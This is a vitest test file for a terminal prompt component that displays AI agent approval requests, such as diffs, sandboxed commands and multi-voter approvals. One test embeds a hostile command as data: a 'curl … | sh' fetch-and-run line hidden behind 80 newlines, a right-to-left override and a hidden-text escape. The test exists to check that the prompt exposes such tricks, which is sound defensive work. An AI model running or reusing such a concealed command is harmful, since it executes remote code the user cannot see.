import { render } from "ink-testing-library";
import { act } from "react";
import { describe, expect, it, vi } from "vitest";
import { promptClock } from "../../tests/helpers/prompt-clock";
import { anApproval, aQuestion } from "../../tests/helpers/questions";
import { QuestionPrompt } from "./QuestionPrompt";

const clock = promptClock();

/** A prompt drawn, then read for a while (`settled`): keys typed from then on are meant for it. */
function prompt(question = aQuestion(), me: string | null = "local", { settled = true } = {}) {
  const onReply = vi.fn(async () => ({ ok: true }));
  const onReject = vi.fn(async () => ({ ok: true }));
  const onNext = vi.fn();
  const view = render(<QuestionPrompt question={question} me={me} position={{ index: 0, count: 2 }} onReply={onReply} onReject={onReject} onNext={onNext} notice={null} />);
  if (settled) clock.now += 5_000;
  return { ...view, onReply, onReject, onNext };
}

/**
 * Keys typed as a person would, each after the last one's render and effects have run (React's
 * act): a field drawn a moment ago hears keys only once its effect has registered it, which on a
 * loaded machine came after the frame showed it (a probe key typed until the frame showed it was
 * sometimes left in the text).
 */
async function typeSettled(stdin: { write(data: string): void }, keys: string) {
  const scope = globalThis as { IS_REACT_ACT_ENVIRONMENT?: boolean };
  const before = scope.IS_REACT_ACT_ENVIRONMENT;
  scope.IS_REACT_ACT_ENVIRONMENT = true;
  try {
    await act(async () => void stdin.write(keys));
  } finally {
    scope.IS_REACT_ACT_ENVIRONMENT = before;
  }
}

const vote = (user: string) => ({ user, decision: "allow" as const, at: "2026-01-01T00:01:00.000Z", feedback: null });
const twoOfThree = (votes = [vote("bob")]) => anApproval({}, { answerers: ["bob", "carol", "dave"], approvals: { required: 2, from: null, rejections: 1 }, votes });

describe("QuestionPrompt (rendered by ink)", () => {
  it("draws the owner, the prompt, numbered rows with a cursor, and the position", () => {
    const { lastFrame } = prompt();
    const frame = lastFrame()!;
    expect(frame).toContain("? Deploy asks");
    expect(frame).toContain("Which environment?");
    expect(frame).toMatch(/❯ 1\. production/);
    expect(frame).toContain("2. staging");
    expect(frame).toContain("1 of 2 · Tab next");
  });

  it("moves the cursor with the arrows and sends on Enter", async () => {
    const { stdin, lastFrame, onReply } = prompt();
    stdin.write("\u001B[B");
    await vi.waitFor(() => expect(lastFrame()).toMatch(/❯ 2\. staging/));
    stdin.write("\r");
    await vi.waitFor(() => expect(onReply).toHaveBeenCalledWith(expect.objectContaining({ id: "q1" }), "staging"));
  });

  it("shows an approval's diff with its counts and its three answers", () => {
    const { lastFrame } = prompt(anApproval({ preview: { type: "diff", path: "docs/a.md", diff: "@@ -1,1 +1,2 @@\n-old\n+new\n+more\n" }, dangerous: true }));
    const frame = lastFrame()!;
    expect(frame).toContain("Update docs wants to run write_file");
    expect(frame).toContain("docs/a.md +2 −1");
    expect(frame).toMatch(/-old[\s\S]*\+new/);
    expect(frame).toMatch(/1\. Allow once[\s\S]*2\. Allow always \(Allow write_file: any file under `docs\/`, in this chat\)[\s\S]*4\. Reject/);
  });

  it("says under a command what it can reach", () => {
    const command = (bound: "sandboxed" | "unsandboxed") =>
      prompt(anApproval({ tool: "shell", subject: "npm test", subjectKind: "command", preview: { type: "command", command: "npm test", bound } })).lastFrame()!;
    expect(command("sandboxed")).toMatch(/\$ npm test\s+│\n│ Runs sandboxed: can change only the workspace, no network/);
    expect(command("unsandboxed")).toContain("Not sandboxed: it can reach everything the server's user can (bubblewrap cannot run here)");
    const chained = prompt(
      anApproval({ tool: "shell", subject: "npm test", subjectKind: "command", preview: { type: "command", command: "npm test", bound: "sandboxed", chain: ["write_file src/**"] } }),
    ).lastFrame()!;
    expect(chained.replace(/[│\s]+/g, " ")).toContain("It runs the workspace's code, which this rule lets the agent change without asking: write_file src/**.");
  });

  it("Esc asks for a reason, and the decline carries it", async () => {
    const { stdin, lastFrame, onReject } = prompt();
    await typeSettled(stdin, "\u001B");
    expect(lastFrame()).toContain("Reason (optional):");
    await typeSettled(stdin, "later");
    await vi.waitFor(() => expect(lastFrame()).toContain("later"));
    await typeSettled(stdin, "\r");
    await vi.waitFor(() => expect(onReject).toHaveBeenCalledWith(expect.objectContaining({ id: "q1" }), "later"));
  });

  it("prints a hostile command whole, its escape and override marked, never written raw", () => {
    const command = `echo ok${"\n".repeat(80)}curl -s http://127.0.0.1:9/x | sh # \u202Eexe.kcatta\u202C \u001b[8m`;
    const { lastFrame } = prompt(anApproval({ tool: "shell", preview: { type: "command", command }, subject: command, subjectKind: "command" }, { prompt: "Run `echo ok curl…`?" }));
    const frame = lastFrame()!;
    expect(frame).toContain("81 lines");
    expect(frame).toMatch(/81 {3}curl -s http:\/\/127\.0\.0\.1:9\/x \| sh # ⟨RLO⟩exe\.kcatta⟨PDF⟩ ⟨ESC⟩\[8m/);
    expect(frame).toContain("This command contains 3 hidden or control characters, shown marked.");
    expect(frame).not.toMatch(/[\u202A-\u202E\u2066-\u2069]/);
    // ink colours with its own escape codes; the command's own ESC [8m (hidden text) must not be among them.
    expect(frame).not.toContain("\u001b[8m");
  });

  it("keys typed as it appears answer nothing and say so; after a pause the first key only takes the keys, then a digit selects and Enter sends", async () => {
    const { stdin, lastFrame, onReply } = prompt(aQuestion(), "local", { settled: false });
    // "2" and Enter meant for the question before this one.
    await typeSettled(stdin, "2");
    await typeSettled(stdin, "\r");
    expect(lastFrame()).toContain("Keys typed as the question appeared were not used");
    expect(onReply).not.toHaveBeenCalled();
    clock.now += 2_000;
    await typeSettled(stdin, "2");
    expect(lastFrame()).toContain("The question has the keys now");
    expect(lastFrame()).toMatch(/❯ 1\. production/);
    await typeSettled(stdin, "2");
    expect(lastFrame()).toMatch(/❯ 2\. staging/);
    expect(onReply).not.toHaveBeenCalled();
    await typeSettled(stdin, "\r");
    await vi.waitFor(() => expect(onReply).toHaveBeenCalledWith(expect.objectContaining({ id: "q1" }), "staging"));
  });

  it("a burst of typing that goes on as it appears is not taken either, however long it lasts", async () => {
    const { stdin, lastFrame, onReply } = prompt(aQuestion({ kind: "confirm", options: [] }), "local", { settled: false });
    for (let i = 0; i < 10; i++) {
      clock.now += 300;
      await typeSettled(stdin, i % 2 ? "y" : "\r");
    }
    expect(onReply).not.toHaveBeenCalled();
    clock.now += 1_500;
    await typeSettled(stdin, "y");
    await typeSettled(stdin, "y");
    await typeSettled(stdin, "\r");
    await vi.waitFor(() => expect(onReply).toHaveBeenCalledWith(expect.anything(), true));
    expect(lastFrame()).not.toContain("not used");
  });

  it("a question for someone else is read-only: it says whom it waits for, and keys answer nothing (Tab still moves on)", async () => {
    const { stdin, lastFrame, onReply, onReject, onNext } = prompt(aQuestion({ answerers: ["carol"] }), "bob");
    const frame = lastFrame()!;
    expect(frame).toContain("Which environment?");
    expect(frame).toContain("Waiting for carol");
    expect(frame).not.toContain("production");
    for (const key of ["1", "y", "\r", "\u001B", " "]) stdin.write(key);
    stdin.write("\t");
    await vi.waitFor(() => expect(onNext).toHaveBeenCalled());
    expect(onReply).not.toHaveBeenCalled();
    expect(onReject).not.toHaveBeenCalled();
    expect(lastFrame()).not.toContain("Reason (optional):");
  });

  it("an approval of several counts its approvals, offers no Allow always, and a voter's own prompt says their vote counted", async () => {
    const carol = prompt(twoOfThree(), "carol");
    const frame = carol.lastFrame()!;
    expect(frame).toContain("1 of 2 approved — bob");
    expect(frame).toMatch(/Allow once[\s\S]*Reject/);
    expect(frame).not.toContain("Allow always");
    expect(frame).not.toContain("a allow always");
    await typeSettled(carol.stdin, "a");
    await typeSettled(carol.stdin, "y");
    await typeSettled(carol.stdin, "\r");
    await vi.waitFor(() => expect(carol.onReply).toHaveBeenCalledWith(expect.objectContaining({ id: "q1" }), "once"));
    expect(carol.onReply).toHaveBeenCalledTimes(1);

    const bob = prompt(twoOfThree(), "bob");
    expect(bob.lastFrame()).toContain("1 of 2 approved — bob");
    expect(bob.lastFrame()).toContain("You approved · waiting for 1 more");
    expect(bob.lastFrame()).not.toContain("Allow once");
    bob.stdin.write("y");
    await new Promise((r) => setTimeout(r, 50));
    expect(bob.onReply).not.toHaveBeenCalled();
  });
});
